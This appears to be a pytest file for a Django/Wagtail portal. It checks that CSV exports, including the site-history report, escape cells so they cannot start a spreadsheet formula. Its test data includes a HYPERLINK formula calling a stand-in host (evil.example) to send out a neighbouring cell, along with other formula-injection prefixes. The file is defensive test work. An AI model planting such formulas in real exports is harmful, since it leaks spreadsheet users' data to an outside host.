import csv
import datetime
from io import StringIO

import pytest
from django.core.files.base import ContentFile
from django.test import Client
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.log_actions import log

from portal.pages.models import PortalDocument
from tests.accounts.fixtures import MakeUser, sign_in
from tests.patches import library


class Row:
    def __init__(self, cell: object) -> None:
        self.cell = cell


class Export(SpreadsheetExportMixin):
    list_export = ("cell",)

    def get_heading(self, queryset: object, field: str) -> str:
        return field


def exported(cell: object) -> str:
    """Return the line of CSV in which a value leaves."""
    _head, line = Export().stream_csv([Row(cell)])
    return line.decode().removesuffix("\r\n")


@pytest.mark.parametrize(
    ("cell", "line"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1)', '"\'=HYPERLINK(""http://evil.example/?""&A1)"'),
        ("+381", "'+381"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\r=1", '"\'\r=1"'),
        ("x;=1+1", "x;'=1+1"),
        ("x\t=1+1", "x\t'=1+1"),
        ("Летак – 1", "Летак – 1"),
        ("а = б; в - г", "а = б; в - г"),
        (-5, "-5"),
        (None, '""'),
        (["=1", "б"], '"\'=1, б"'),
        (datetime.date(2026, 11, 30), "2026-11-30"),
    ],
)
def test_a_cell_begins_no_formula_and_other_cells_stay_as_they_are(cell: object, line: str) -> None:
    assert exported(cell) == line


def test_in_a_file_for_spreadsheets_the_cell_stays_as_it_is() -> None:
    assert Export().preprocess_field_value("cell", "=1", "xlsx") == "=1"


def test_wagtail_still_escapes_nothing_and_writes_every_cell_through_one_method() -> None:
    assert "=" in library.source(SpreadsheetExportMixin.preprocess_field_value.__wrapped__)
    assert "startswith" not in library.source(SpreadsheetExportMixin.preprocess_field_value.__wrapped__), (
        "it may escape by itself now: portal/patches/wagtail_exports.py can go"
    )
    assert "self.preprocess_field_value(" in library.source(SpreadsheetExportMixin.write_csv_row)


@pytest.mark.django_db
def test_the_history_of_the_site_leaves_without_a_formula(make_user: MakeUser, client: Client) -> None:
    user = make_user(cms=True, enrolled=True)
    user.is_superuser = True
    user.save(update_fields=["is_superuser"])
    sign_in(client, user)
    title = '=HYPERLINK("http://evil.example/?"&A1,"види")'
    log(PortalDocument.objects.create(title=title, file=ContentFile(b"tekst", name="letak.txt")), "wagtail.create")
    answer = client.get("/cms/reports/site-history/", {"export": "csv"})
    written = b"".join(answer.streaming_content).decode()  # type: ignore[attr-defined]
    cells = [cell for row in csv.reader(StringIO(written)) for cell in row]
    assert f"'{title}" in cells and title not in cells
